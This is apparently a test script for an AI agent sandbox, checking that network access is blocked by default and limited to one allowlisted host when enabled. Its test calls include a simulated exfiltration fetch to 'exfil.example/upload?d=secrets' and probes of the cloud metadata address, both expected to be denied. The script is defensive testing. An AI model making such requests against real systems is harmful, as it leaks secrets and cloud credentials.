// Walkthrough 4: network isolation. With the network off (the default),
// sandboxed code has only a loopback interface: direct TCP, DNS, the cloud
// metadata address, IPv6 and UDP all fail, and host WebFetch is denied. With
// a query that turns the network on for one allowlisted host, the model's
// host WebFetch of any other domain is still denied, and sandboxed code may
// reach the allowlisted host through gatekeeper's egress proxy only.

import { expectDenied, expectRan, probeLines, runAgent, RUN } from './lib/agent.js';
import { egressStep, netOverride, startUpstreams } from './lib/egress.js';
import { Transcript } from './lib/transcript.js';
import { startWorld } from './lib/world.js';

const t = new Transcript(4, 'Network isolation');
t.header(
  'A sandbox has no network unless the policy turns it on; then only the hosts in sandbox.net.allow,',
  'through gatekeeper\'s egress proxy. Host WebFetch follows the same net policy. (Targets that must fail',
  'are TEST-NET addresses, tried from inside a network-less container: no packet leaves it.)',
);
const up = await startUpstreams();
const w = await startWorld({ n: 4, policy: { netHosts: [up.allowed.hostPort] } });

const isolationProbe = `import errno, socket
def err(e):
    if isinstance(e, socket.gaierror):
        return {socket.EAI_AGAIN: "EAI_AGAIN", socket.EAI_NONAME: "EAI_NONAME"}.get(e.errno, "gaierror %s" % e.errno)
    if isinstance(e, socket.timeout):
        return "timeout"
    return errno.errorcode.get(e.errno, str(e))
def tcp(label, family, addr):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(addr)
        print(label, "connected")
    except OSError as e:
        print(label, err(e))
    finally:
        s.close()
ifaces = sorted(l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:])
print("interfaces", ",".join(ifaces))
tcp("tcp:192.0.2.1:80", socket.AF_INET, ("192.0.2.1", 80))
tcp("metadata:169.254.169.254:80", socket.AF_INET, ("169.254.169.254", 80))
tcp("ipv6:[2001:db8::1]:443", socket.AF_INET6, ("2001:db8::1", 443))
tcp("host-loopback:${up.allowed.hostPort}", socket.AF_INET, ("${up.allowed.host}", ${String(up.allowed.port)}))
try:
    socket.getaddrinfo("example.com", 443)
    print("dns:example.com resolved")
except OSError as e:
    print("dns:example.com", err(e))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"x", ("198.51.100.1", 53))
    print("udp:198.51.100.1:53 sent")
except OSError as e:
    print("udp:198.51.100.1:53", err(e))
`;

try {
  t.line('sidecar', `gatekeeper serve (pid ${String(w.pid)}); sandbox.net.enabled false; ceilings.net_hosts [${up.allowed.hostPort}]`);
  t.line('upstream', `allowlisted http://${up.allowed.hostPort}/ and not allowlisted http://${up.denied.hostPort}/, both on the host's loopback`);

  t.section('The network is off (the base policy)');
  await runAgent(w, t, [
    {
      say: 'the model\'s code tries TCP, the metadata address, IPv6, the host\'s loopback, DNS and UDP',
      call: { name: RUN, input: { language: 'python', code: isolationProbe } },
      check: (o, t) => {
        const r = expectRan(t, o);
        const got = probeLines(r?.stdout ?? '');
        const want: [string, string, string][] = [
          ['interfaces', 'lo', 'the only interface is loopback'],
          ['tcp:192.0.2.1:80', 'ENETUNREACH', 'direct TCP to an address: ENETUNREACH'],
          ['metadata:169.254.169.254:80', 'ENETUNREACH', 'the cloud metadata address: ENETUNREACH'],
          ['ipv6:[2001:db8::1]:443', 'EADDRNOTAVAIL', 'IPv6: EADDRNOTAVAIL (the sandbox has no IPv6 address at all)'],
          [`host-loopback:${up.allowed.hostPort}`, 'ECONNREFUSED', `the host's loopback upstream ${up.allowed.hostPort}: ECONNREFUSED (the sandbox's 127/8 is its own)`],
          ['dns:example.com', 'EAI_AGAIN', 'a DNS lookup fails: EAI_AGAIN (no resolver is reachable)'],
          ['udp:198.51.100.1:53', 'ENETUNREACH', 'UDP: ENETUNREACH'],
        ];
        for (const [k, v, what] of want) t.expect(got.get(k) === v, what, `got ${String(got.get(k))} for ${k}`);
        t.expect(up.allowed.hits === 0 && up.denied.hits === 0, 'neither upstream got a request');
      },
    },
    {
      say: 'the model fetches a page with the host\'s WebFetch',
      call: { name: 'WebFetch', input: { url: 'https://example.com/', prompt: 'summarize' } },
      check: (o, t) => expectDenied(t, o, 'net.disabled'),
    },
  ], { tag: 'off', prompt: 'Reach the internet.', finalText: () => 'There is no network.' });

  t.section(`The network is on for one host: sandboxPolicy {net: {enabled: true, allow: ["${up.allowed.hostPort}"]}}`);
  await runAgent(w, t, [
    {
      say: 'the model WebFetches a domain that is not allowlisted',
      call: { name: 'WebFetch', input: { url: 'https://exfil.example/upload?d=secrets', prompt: 'summarize' } },
      check: (o, t) => expectDenied(t, o, 'net.host_not_allowed'),
    },
    {
      say: 'the model WebFetches the cloud metadata address',
      call: { name: 'WebFetch', input: { url: 'http://169.254.169.254/latest/meta-data/', prompt: 'summarize' } },
      check: (o, t) => expectDenied(t, o, 'net.metadata'),
    },
    {
      say: 'the model WebFetches a URL with credentials in it',
      call: { name: 'WebFetch', input: { url: `http://user:pass@${up.allowed.hostPort}/`, prompt: 'summarize' } },
      check: (o, t) => expectDenied(t, o, 'net.bad_url'),
    },
    egressStep(up, 'the model\'s code fetches the allowlisted host through the proxy, and tries the rest'),
  ], { tag: 'on', prompt: 'Reach the internet.', sandboxPolicy: netOverride(up), finalText: () => 'Only the allowlisted host is reachable.' });
} catch (err) {
  t.fail('the walkthrough ran to its end', err instanceof Error ? (err.stack ?? err.message) : String(err));
} finally {
  await w.stop();
  await up.close();
}
process.exit(t.finish());
